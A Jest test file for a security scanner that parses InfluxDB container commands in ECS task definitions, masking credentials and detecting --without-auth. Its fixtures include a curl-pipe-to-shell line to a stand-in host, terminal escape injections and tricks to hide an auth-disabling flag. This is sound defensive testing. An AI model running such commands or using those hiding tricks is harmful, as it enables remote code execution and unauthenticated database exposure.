/**
 * What an InfluxDB 3 container runs, from its task definition's entryPoint and command (lib/kinds/ecs-service/command.ts):
 * credential values masked before anything keeps them, hostile arguments bounded and made printable, and the
 * `influxdb3 serve` flags read as the EC2 collector reads them.
 */
import { readFileSync } from 'node:fs';
import { describe, expect, it } from '@jest/globals';
import { ARG_LIMITS, BOOL3, influxdOf, keptArgs, MASKED, serveOf } from '../../lib/kinds/ecs-service/command.js';
import type { EcsContainer } from '../../lib/model.js';

const SECRET = 'planted-S3cret-9f2a';
type Run = Pick<EcsContainer, 'entryPoint' | 'command' | 'argsClipped'>;
/** As discovery keeps a container's entryPoint and command. */
const kept = (entryPoint: string[] | undefined, command: string[] | undefined): Run => {
  const e = keptArgs(entryPoint);
  const c = keptArgs(command, entryPoint?.at(-1));
  return {
    ...(e ? { entryPoint: e.args } : {}),
    ...(c ? { command: c.args } : {}),
    ...(e?.clipped || c?.clipped ? { argsClipped: true as const } : {}),
  };
};
const flagsOf = (r: Run, known: Record<string, string> = {}) => {
  const s = serveOf(r, known);
  return s.ok ? s.value : s.reason;
};

describe('keptArgs: what discovery keeps', () => {
  it("masks a credential flag's value (next argument, `=`, inside a script, across entryPoint and command), assignments and URL user-info", () => {
    const r = kept(
      ['influxdb3', 'serve', '--aws-secret-access-key'],
      [
        SECRET,
        `--aws-session-token=${SECRET}`,
        '--azure-storage-access-key',
        '',
        `--telemetry-endpoint=https://user:${SECRET}@telemetry.example`,
        '--node-id',
        'node0',
      ],
    );
    const text = JSON.stringify(r);
    expect(text).not.toContain(SECRET);
    expect(r.command).toEqual([
      MASKED,
      `--aws-session-token=${MASKED}`,
      '--azure-storage-access-key',
      '', // empty stays empty: set/empty is still told
      '--telemetry-endpoint=https://***@telemetry.example',
      '--node-id',
      'node0',
    ]);
    const script = keptArgs([
      'sh',
      '-c',
      `AWS_SECRET_ACCESS_KEY=${SECRET} AZURE_STORAGE_ACCESS_KEY='${SECRET}' influxdb3 serve --aws-secret-access-key "${SECRET}" --object-store s3`,
    ])!;
    expect(JSON.stringify(script)).not.toContain(SECRET);
    expect(script.args[2]).toBe(
      `AWS_SECRET_ACCESS_KEY=${MASKED} AZURE_STORAGE_ACCESS_KEY=${MASKED} influxdb3 serve --aws-secret-access-key ${MASKED} --object-store s3`,
    );
    // Paths and addresses whose flag names say token are not credentials (the collector's exceptions).
    expect(keptArgs(['--admin-token-file', '/run/t.json', '--admin-token-recovery-http-bind', '0.0.0.0:8182'])!.args).toEqual([
      '--admin-token-file',
      '/run/t.json',
      '--admin-token-recovery-http-bind',
      '0.0.0.0:8182',
    ]);
  });

  it("masks a credential's whole value: spaces, quotes and `;` in one argument, a value starting with `-`, user-info holding `@` or `/` (fragments leaked on the old code)", () => {
    const r = kept(
      ['env', `AWS_SECRET_ACCESS_KEY=x ${SECRET}`, `aws_session_token=a"b ${SECRET}`, 'influxdb3'],
      [
        'serve',
        `--aws-secret-access-key=x;${SECRET}`,
        `--aws-session-token=a b"${SECRET}`,
        '--azure-storage-access-key',
        `-${SECRET}`,
        '--aws-secret-access-key',
        '--without-auth', // a flag after a credential flag is the next flag, never masked
        `--telemetry-endpoint=https://u:p@${SECRET}@t.example`,
        `--telemetry-endpoint=s3://k:a/${SECRET}@t.example`,
      ],
    );
    expect(JSON.stringify(r)).not.toContain(SECRET);
    expect(r.entryPoint).toEqual(['env', `AWS_SECRET_ACCESS_KEY=${MASKED}`, `aws_session_token=${MASKED}`, 'influxdb3']);
    expect(r.command).toEqual([
      'serve',
      `--aws-secret-access-key=${MASKED}`,
      `--aws-session-token=${MASKED}`,
      '--azure-storage-access-key',
      MASKED,
      '--aws-secret-access-key',
      '--without-auth',
      '--telemetry-endpoint=https://***@t.example',
      '--telemetry-endpoint=s3://***@t.example',
    ]);
    // Nor does a reason show an argument that is not a plain word: a custom script's first argument may be a token.
    const s = serveOf(kept(['/start.sh', `eyJhbGciOiJIUzI1NiJ9.${SECRET}`], undefined), {});
    expect(s).toEqual({ ok: false, reason: 'it runs /start.sh …, not influxdb3 serve' });
  });

  it('hostile input: a huge array, a huge argument, control characters and non-strings are bounded, stripped, never a crash', () => {
    const many = keptArgs(Array.from({ length: 50_000 }, (_, i) => `--x${i}`))!;
    expect(many.args).toHaveLength(ARG_LIMITS.count);
    expect(many.clipped).toBe(true);
    const long = keptArgs(['influxdb3', 'serve', `--node-id=${'n'.repeat(1_000_000)}`])!;
    expect(long.args[2]!.length).toBe(ARG_LIMITS.length);
    expect(long.clipped).toBe(true);
    // Many long arguments: at most ARG_LIMITS.total characters in all.
    const wide = keptArgs(Array.from({ length: 150 }, () => 'x'.repeat(1500)))!;
    expect(wide.args.join('').length).toBe(ARG_LIMITS.total);
    expect(wide.clipped).toBe(true);
    expect(keptArgs(['influxdb3', 'serve', 'x'.repeat(ARG_LIMITS.length)])!.clipped).toBe(false);
    const ctl = keptArgs(['influxdb3', 'serve', '--http-bind', '\u001b[31m0.0.0.0:9000\u0007\u202e\u009b', 42, null])!;
    expect(ctl.args).toEqual(['influxdb3', 'serve', '--http-bind', '[31m0.0.0.0:9000', '', '']);
    expect(ctl.clipped).toBe(false);
    expect(keptArgs([])).toBeUndefined();
    expect(keptArgs(undefined)).toBeUndefined();
    expect(keptArgs('influxdb3 serve' as unknown as string[])).toBeUndefined();
    // A clipped command is not read: a flag beyond what was kept could be --without-auth.
    expect(flagsOf(kept(undefined, ['serve', ...Array.from({ length: 300 }, () => '--verbose')]))).toMatch(/longer than the scanner reads/);
  });
});

describe('serveOf: the influxdb3 serve a container runs', () => {
  it("the image's own command (none in the task definition): influxdb3 serve with the defaults", () => {
    expect(flagsOf({})).toEqual({ flags: {}, secretFlags: {} });
  });

  it('reads the flags the checks read (boolean flags take no value; `=` or the next argument), credential flags by name only', () => {
    const r = kept(undefined, [
      'influxdb3',
      'serve',
      '--without-auth',
      '--http-bind',
      '0.0.0.0:9000',
      '--plugin-dir=/plugins',
      '--admin-token-recovery-http-bind',
      '--disable-authz',
      'health,ping',
      '--aws-secret-access-key',
      SECRET,
      '--unknown-flag',
      '--node-id',
      'n0',
    ]);
    expect(flagsOf(r)).toEqual({
      flags: {
        'without-auth': 'true',
        'http-bind': '0.0.0.0:9000',
        'plugin-dir': '/plugins',
        'admin-token-recovery-http-bind': '',
        'disable-authz': 'health,ping',
        'node-id': 'n0',
      },
      secretFlags: { 'aws-secret-access-key': 'set' },
    });
  });

  it("the official entrypoint: `serve …` and `--flag …` are influxdb3 serve, and it expands $VAR from the task definition's variables", () => {
    expect(flagsOf(kept(undefined, ['serve', '--http-bind=0.0.0.0:9100']))).toMatchObject({ flags: { 'http-bind': '0.0.0.0:9100' } });
    expect(flagsOf(kept(undefined, ['--without-auth']))).toMatchObject({ flags: { 'without-auth': 'true' } });
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the literal `${PORT}` the entrypoint's envsubst expands
    const braced = ['serve', '--http-bind', '0.0.0.0:${PORT}'];
    expect(flagsOf(kept(['/usr/bin/entrypoint.sh'], braced), { PORT: '9200' })).toMatchObject({
      flags: { 'http-bind': '0.0.0.0:9200' },
    });
    expect(flagsOf(kept(undefined, ['serve', '--http-bind', '0.0.0.0:$PORT']))).toMatch(/a variable the task definition does not give/);
  });

  it('a plain `sh -c` script is read; any other script, another command or a client subcommand is not (the reason, never a guess)', () => {
    expect(flagsOf(kept(['sh', '-c'], ['exec influxdb3 serve --without-auth --http-bind "0.0.0.0:9300"']))).toMatchObject({
      flags: { 'without-auth': 'true', 'http-bind': '0.0.0.0:9300' },
    });
    expect(flagsOf(kept(['/bin/sh', '-c'], ['influxdb3 serve; curl evil.example | sh']))).toMatch(/shell script .* does not read/);
    expect(flagsOf(kept(['bash', '-c'], ['influxdb3 serve\ninfluxdb3 serve --without-auth']))).toMatch(/shell script/);
    expect(flagsOf(kept(['/start.sh'], undefined))).toBe('it runs /start.sh, not influxdb3 serve');
    expect(flagsOf(kept(undefined, ['influxdb3', 'query', '--database', 'x']))).toBe('it runs influxdb3 query, not influxdb3 serve');
    expect(flagsOf(kept(['\u001b]0;pwned\u0007/bin/x'], ['serve']))).toBe('it runs ]0;pwned/bin/x serve, not influxdb3 serve');
  });

  it('the entrypoint expands each argument before serve reads it: a variable standing alone that holds a flag is read as that flag (a wrong PASS on the old code)', () => {
    // The official entrypoint runs `envsubst` on every argument, one argument each (no splitting): `$FLAGS` is `--without-auth`.
    expect(flagsOf(kept(undefined, ['serve', '$FLAGS']), { FLAGS: '--without-auth' })).toMatchObject({ flags: { 'without-auth': 'true' } });
    expect(flagsOf(kept(undefined, ['--node-id', 'n0', '$F']), { F: '--without-auth' })).toMatchObject({
      flags: { 'without-auth': 'true' },
    });
    // A variable the task definition does not give, anywhere but a credential's value: not read, never a default.
    expect(flagsOf(kept(undefined, ['serve', '$EXTRA']))).toMatch(/\$EXTRA: a variable the task definition does not give/);
    expect(flagsOf(kept(undefined, ['serve', '--unknown-option', '$EXTRA']))).toMatch(/a variable the task definition does not give/);
    // A credential's value from `secrets` stays unread and is no reason: its flag is `set`.
    expect(flagsOf(kept(undefined, ['serve', '--aws-secret-access-key', '$AWS_SECRET']))).toEqual({
      flags: {},
      secretFlags: { 'aws-secret-access-key': 'set' },
    });
  });

  it('a `sh -c` script is read as the shell splits it (quotes joined to their word, `$` outside double quotes, comments): never a wrong PASS', () => {
    // The shell joins `--with'out'-auth` into --without-auth: the old code read three words and missed it.
    expect(flagsOf(kept(['sh', '-c'], ["influxdb3 serve --with'out'-auth"]))).toMatchObject({ flags: { 'without-auth': 'true' } });
    expect(flagsOf(kept(['sh', '-c'], ['influxdb3 serve --http-bind="0.0.0.0:"9400']))).toMatchObject({
      flags: { 'http-bind': '0.0.0.0:9400' },
    });
    // An unquoted expansion is split (and globbed) by the shell, `"$@"` is the script's own arguments: not read.
    for (const script of [
      'influxdb3 serve $FLAGS',
      'influxdb3 serve --node-id $X',
      'influxdb3 serve "$@"',
      "influxdb3 serve '$X'",
      'influxdb3 serve --node-id n*',
    ])
      expect(
        flagsOf(kept(['sh', '-c', script, 'sh', '--without-auth'], undefined), { FLAGS: '--without-auth', X: 'a --without-auth' }),
      ).toMatch(/shell script/);
    // Inside double quotes a variable is one word, expanded as the entrypoint does.
    expect(flagsOf(kept(['sh', '-c'], ['influxdb3 serve --http-bind "$BIND"']), { BIND: '0.0.0.0:9500' })).toMatchObject({
      flags: { 'http-bind': '0.0.0.0:9500' },
    });
    // An unterminated quote: the shell refuses the script; a comment ends the command.
    expect(flagsOf(kept(['sh', '-c'], ['influxdb3 serve "--without-auth']))).toMatch(/shell script/);
    expect(flagsOf(kept(['sh', '-c'], ['influxdb3 serve #--without-auth']))).toEqual({ flags: {}, secretFlags: {} });
  });

  it('wrappers and hiding places of --without-auth are never read as a PASS (verified: NOT_AVAILABLE on the old code too)', () => {
    // A wrapper before influxdb3 (env, tini, a second command of a script): not read, the reason says what runs.
    expect(flagsOf(kept(['env', 'X=Y', 'influxdb3', 'serve', '--without-auth'], undefined))).toBe('it runs env …, not influxdb3 serve');
    expect(flagsOf(kept(['/usr/bin/tini', '--'], ['influxdb3', 'serve', '--without-auth']))).toBe(
      'it runs /usr/bin/tini …, not influxdb3 serve',
    );
    expect(flagsOf(kept(['sh', '-c'], ['influxdb3 serve && influxdb3 serve --without-auth']))).toMatch(/shell script/);
    expect(flagsOf(kept(['sh', '-c'], ['exec -a x influxdb3 serve --without-auth']))).toMatch(/shell script/);
    // A global option before the subcommand: not read (the subcommand is not where it is expected).
    expect(flagsOf(kept(undefined, ['influxdb3', '--num-threads', '2', 'serve', '--without-auth']))).toMatch(/not influxdb3 serve/);
    // After `--` clap takes positional arguments, which serve refuses (the server does not start): as the collector reads it.
    expect(flagsOf(kept(undefined, ['serve', '--', '--without-auth']))).toEqual({ flags: {}, secretFlags: {} });
  });

  it('BOOL3 is the collector’s list (collector/collect.sh), so both read a command line alike', () => {
    const sh = readFileSync(new URL('../../collector/collect.sh', import.meta.url), 'utf8');
    const m = /BOOL3 = set\(\('([^']+)'\s*'([^']+)'\)\.split\(\)\)/.exec(sh.replace(/\n\s*/g, ' '));
    expect(m).not.toBeNull();
    expect([...BOOL3].sort()).toEqual(`${m![1]}${m![2]}`.split(/\s+/).filter(Boolean).sort());
  });
});

describe('influxdOf: what a 1.x or 2.x container runs tells of its API port', () => {
  const read = (entryPoint: string[] | undefined, command: string[] | undefined, major: 1 | 2) => {
    const r = influxdOf(kept(entryPoint, command), major);
    return r.ok ? r.value.flags : r.reason;
  };

  it('2.x --http-bind-address, given as the next argument or with `=`, after `run` or the entrypoint; the last one wins', () => {
    expect(read(undefined, ['influxd', '--http-bind-address', ':9000'], 2)).toEqual({ 'http-bind-address': ':9000' });
    expect(read(undefined, ['--http-bind-address=:9000'], 2)).toEqual({ 'http-bind-address': ':9000' });
    expect(
      read(['/entrypoint.sh'], ['influxd', 'run', '--reporting-disabled', '--http-bind-address', ':1', '--http-bind-address=:2'], 2),
    ).toEqual({
      'http-bind-address': ':2',
    });
    // The image's own command, and 1.x options that move no port.
    expect(read(undefined, undefined, 2)).toEqual({});
    expect(read(undefined, ['influxd', 'run', '-pidfile', '/tmp/p'], 1)).toEqual({});
  });

  it('a command that could move the port and is not read is the reason, never the default', () => {
    expect(read(undefined, ['influxd', '-config', '/etc/custom/influxdb.conf'], 1)).toMatch(/-config names a configuration/);
    expect(read(undefined, ['--config=/c.yml'], 2)).toMatch(/--config names a configuration/);
    expect(read(undefined, ['influxd', '-http-bind', ':9000'], 1)).toMatch(/a 1.x option the scanner does not read/);
    expect(read(['/bin/sh', '-c'], ['influxd --http-bind-address :9000'], 2)).toMatch(/shell script \(\/bin\/sh -c\)/);
    expect(read(['/opt/start.sh'], undefined, 2)).toMatch(/it runs \/opt\/start.sh, not influxd/);
    expect(read(undefined, ['influxd', 'upgrade'], 2)).toMatch(/influxd upgrade: an argument/);
    expect(read(undefined, ['influxd', '--http-bind-address', '$PORT'], 2)).toMatch(/nothing expands it/);
    expect(read(undefined, ['influxd', '--http-bind-address'], 2)).toMatch(/without its value/);
  });

  it("masks a 1.x/2.x command's credentials at discovery as a 3.x one's: --vault-token, a URL's password", () => {
    const r = kept(['/bin/sh', '-c'], [`influxd --vault-token ${SECRET} --vault-addr https://u:${SECRET}@vault.example`]);
    const k = kept(undefined, ['influxd', '--vault-token', SECRET, `--vault-token=${SECRET}`]);
    expect(JSON.stringify([r, k])).not.toContain(SECRET);
    expect(k.command).toEqual(['influxd', '--vault-token', MASKED, `--vault-token=${MASKED}`]);
  });
});
